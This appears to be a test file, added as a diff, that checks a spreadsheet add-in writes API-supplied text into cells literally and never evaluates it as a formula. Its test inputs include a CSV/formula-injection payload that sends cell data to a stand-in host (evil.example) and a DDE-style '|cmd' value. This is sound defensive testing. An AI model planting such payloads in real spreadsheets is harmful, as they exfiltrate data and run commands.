@@ -1,0 +1,133 @@
+import { describe, expect, it } from "vitest";
+import type { DemoReply } from "../../workbench/demo-api/wire";
+import { HOSTILE_TEXTS } from "../../workbench/demo-api/hostile-text";
+import { openAddin, websites, type OpenAddin } from "./open-addin";
+
+const [company = ""] = websites(1);
+const TEXTS = [
+  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
+  "+1",
+  "-1",
+  "@x",
+  "'x",
+  "00123",
+  "1/2",
+  "11-50",
+  "3-5",
+  "1e5",
+  "12:30",
+  "50%",
+  "TRUE",
+  "Jan 5",
+  "\t=1+1",
+  "\r=1+1",
+];
+const LONG = "x".repeat(60_000);
+
+describe("A text of the API arrives as that text", () => {
+  it.each(TEXTS)("%j from an enrichment, beside its company", async (text) => {
+    const addin = await openAddin({ column: ["Website", company] });
+    addin.spoil = replaced({ city: text });
+
+    await addin.run({ kind: "enrichment", sections: ["location"] });
+
+    expect(addin.rows()[0]?.["HQ city"]).toBe(text);
+    expect(formulasIn(addin)).toEqual([]);
+  });
+
+  it("one of 60,000 characters cut, visibly", async () => {
+    const addin = await openAddin({ column: ["Website", company] });
+    addin.spoil = replaced({ city: LONG });
+
+    await addin.run({ kind: "enrichment", sections: ["location"] });
+
+    const city = String(addin.rows()[0]?.["HQ city"]);
+    expect(city.length).toBeLessThanOrEqual(50_000);
+    expect(city).toMatch(/x… \[cut]$/);
+  });
+
+  it("from job posts and from news, on the sheets of their own", async () => {
+    for (const [kind, field, header] of [
+      ["jobs", "title", "Title"],
+      ["news", "title", "Headline"],
+    ] as const) {
+      const addin = await openAddin({ column: ["Website", company] });
+      let next = 0;
+      addin.spoil = replaced({ [field]: () => TEXTS[next++ % TEXTS.length] ?? "" });
+
+      const done = await addin.run({ kind, limit: 20 });
+
+      const sheet = addin.workbook.sheetNamed(done.sheetName)!;
+      const shown = addin.rows(sheet).map((row) => row[header]);
+      const count = shown.length;
+      expect(count).toBeGreaterThan(10);
+      expect([...shown].sort()).toEqual(Array.from({ length: count }, (_, n) => TEXTS[n % TEXTS.length]).sort());
+      expect(formulasIn(addin)).toEqual([]);
+    }
+  });
+
+  it("from a formula, which is never evaluated", async () => {
+    const addin = await openAddin();
+    addin.spoil = replaced({ title: '=IMPORTXML("https://evil.example/?"&A1,"//a")' });
+
+    const { sheet } = await addin.formula(`=COMPANY_JOBS("${company}",3,"title")`);
+
+    const cells = sheet.getValues(sheet.dataRange).flat();
+    expect(cells.filter((cell) => String(cell).startsWith("=IMPORTXML"))).toHaveLength(3);
+    expect(formulasIn(addin)).toEqual([`=COMPANY_JOBS("${company}",3,"title")`]);
+  });
+
+  it("on the sheet of a list", async () => {
+    const addin = await openAddin();
+    addin.spoil = replaced({ name: TEXTS[0]!, company_name: TEXTS[0]! });
+
+    const result = await addin.value("generateList", {
+      filters: { "location.hq.country": ["DEU"] },
+      limit: 5,
+      creditCap: 10,
+    });
+
+    const sheet = addin.workbook.sheetNamed(result.sheetName)!;
+    expect(sheet.lastRow).toBe(6);
+    expect(sheet.getValues(sheet.dataRange).flat()).toContain(TEXTS[0]);
+    expect(formulasIn(addin)).toEqual([]);
+  });
+});
+
+describe("Replies in which every text is hostile", () => {
+  it("run no formula and change no type, whatever asked for them", async () => {
+    const addin = await openAddin();
+    addin.api.faults.set([{ when: {}, reply: "hostile" }]);
+
+    for (const kind of ["enrichment", "jobs", "news"] as const) {
+      const sections = ["firmographic", "location", "technology", "management_profile", "funding_detail"];
+      const done = await addin.run({ kind, sections, limit: 10 });
+      expect(done).toMatchObject({ state: "done" });
+    }
+    await addin.sidebar("generateList", { filters: { "location.hq.country": ["DEU"] }, limit: 5, creditCap: 10 });
+
+    expect(formulasIn(addin)).toEqual([]);
+    const cells = new Set(addin.workbook.sheets.flatMap((sheet) => sheet.getValues(sheet.dataRange).flat()));
+    for (const text of ["11-50", "00123", "1e5", "-1+1|cmd", "'=1+1", "\t=1+1"]) {
+      expect(HOSTILE_TEXTS).toContain(text);
+      expect([...cells].some((cell) => typeof cell === "string" && cell.includes(text))).toBe(true);
+    }
+  });
+});
+
+/** Formulas that stand anywhere in the workbook. */
+function formulasIn({ workbook }: OpenAddin): string[] {
+  return workbook.sheets.flatMap((sheet) => sheet.getFormulas(sheet.dataRange).flat().filter(Boolean));
+}
+
+/** Replaces texts of a reply by field name, however deep they stand. */
+function replaced(fields: Record<string, string | (() => string)>): (reply: DemoReply) => DemoReply {
+  return (reply) => {
+    const body: unknown = JSON.parse(reply.body, (key, value: unknown) => {
+      const text = fields[key];
+      if (text === undefined || typeof value !== "string") return value;
+      return typeof text === "function" ? text() : text;
+    });
+    return { ...reply, body: JSON.stringify(body) };
+  };
+}
